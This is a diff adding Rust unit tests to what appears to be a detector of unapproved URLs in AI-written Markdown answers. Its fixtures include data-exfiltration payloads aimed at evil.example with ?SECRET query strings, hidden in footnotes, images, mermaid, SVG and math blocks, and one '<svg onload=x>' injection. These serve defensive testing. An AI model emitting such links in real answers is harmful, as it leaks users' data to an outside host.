@@ -281,3 +281,95 @@ fn a_host_that_goes_on_in_emphasis_is_another() {
         assert_eq!(unsupported(answer), [""; 0], "{answer}");
     }
 }
+
+#[test]
+fn a_footnote_is_also_read_as_a_reference() {
+    for (answer, target) in [
+        (
+            "![^1]\n\n[^1]: //evil.example/x?SECRET \"https://known.example/1\"",
+            "//evil.example/x?SECRET",
+        ),
+        (
+            "so [^a]\n\n[^a]: https:evil.example/x?SECRET \"https://known.example/1\"",
+            "https:evil.example/x?SECRET",
+        ),
+        ("[^1]: ```\n![](//evil.example/x)\n```\n", "//evil.example/x"),
+        ("$`$ ![](//evil.example/x) $`$", "//evil.example/x"),
+        ("---\n```\n---\n![](//evil.example/x)\n```\n", "//evil.example/x"),
+        ("`\n|a|\n|-|\n| `![](//evil.example/x)` |\n", "//evil.example/x"),
+    ] {
+        assert_reports(answer, target);
+    }
+    assert_refused("[^1]: ```\n<svg onload=x>\n```\n");
+}
+
+#[test]
+fn an_ordinary_answer_reads_the_same_in_each_dialect() {
+    for answer in [
+        "So.[^1]\n\n[^1]: https://known.example/1\n",
+        "So.[^1]\n\n[^1]: LICENSE\n",
+        "So.[^1]\n\n[^1]: [Known](https://known.example/1), page 2\n",
+        "|a|b|\n|-|-|\n|https://known.example/1|b|\n|https://host.example|https://known.example/1.|\n",
+        "---\ntitle: a\n---\n\nIt costs $5, not $6: https://known.example/1\n\nterm\n: what it is\n",
+    ] {
+        assert_eq!(unsupported(answer), [""; 0], "{answer}");
+    }
+}
+
+#[test]
+fn a_url_in_code_that_is_rendered_is_reported() {
+    for (code, target) in [
+        (
+            "```mermaid\nA[\"<img src='https://evil.example/?q=S'>\"]\n```",
+            "https://evil.example/?q=S",
+        ),
+        ("~~~ {.html}\n<img src=//evil.example/x>\n~~~", "//evil.example/x"),
+        ("```svg\n<image href=\"&#104;ttps://evil.example/x\"/>\n```", "https://evil.example/x"),
+        ("```math\n\\href{https:evil.example/x}{y}\n```", "https:evil.example/x"),
+        ("```dot\na [URL=\"\\\\evil.example/x\"]\n```", "\\\\evil.example/x"),
+        (
+            "```Html title=x\n<img src=\"https://known.example/1'?q=S\">\n```",
+            "https://known.example/1'?q=S",
+        ),
+    ] {
+        assert_reports(code, target);
+    }
+    for code in [
+        "```svg\n<svg xmlns=\"http://www.w3.org/2000/svg\"><a href='https://known.example/1'/></svg>\n```",
+        "```html\n<!-- a // b --><script>// say http: and c://d</script>\n```",
+        "```mermaid\ngraph TD\n A[a] --> B[b] %% // x\n```",
+        "```rust\nlet url = \"https://evil.example\"; // x\n```",
+        "```latex\na \\\\ b \\\\[1ex] c \\\\x\n```",
+    ] {
+        assert_eq!(unsupported(code), [""; 0], "{code}");
+    }
+}
+
+#[test]
+fn a_link_that_goes_on_behind_punctuation_is_another() {
+    for link in [
+        "https://known.example/1*q=SECRET",
+        "https://known.example/1|?q=SECRET",
+        "https://known.example/1\"?q=SECRET",
+        "https://known.example/1)?q=SECRET",
+        "https://known.example/1`?q=SECRET`/",
+        "https://known.example/1**[1234]x",
+        "https://known.example/1[](y)x",
+    ] {
+        for answer in [format!("See {link}"), format!("a &amp; b ({link})"), format!("_{link} x_")]
+        {
+            assert_reports(&answer, link);
+        }
+    }
+    for answer in [
+        "\"https://known.example/1\".",
+        "(see https://known.example/1), so",
+        "**https://known.example/1**.[1] [2]",
+        "(https://known.example/1)[1][^2].",
+        "“https://known.example/1 ” \"https://known.example/1\"。",
+        "- `https://known.example/1`\n- _https://known.example/1_:\n- https://known.example/1<sup>1</sup>",
+        "[(https://known.example/1)](https://known.example/1)x",
+    ] {
+        assert_eq!(unsupported(answer), [""; 0], "{answer}");
+    }
+}
